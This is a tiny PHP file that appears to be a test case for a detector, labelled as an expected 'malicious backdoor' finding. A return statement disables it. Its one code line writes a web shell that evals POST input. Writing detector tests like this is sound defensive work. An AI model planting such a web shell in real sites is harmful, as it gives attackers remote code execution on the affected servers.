<?php return; // want: malicious backdoor php.code.request
file_put_contents('t.php', '<?php eval($_POST["a"]); ?>');
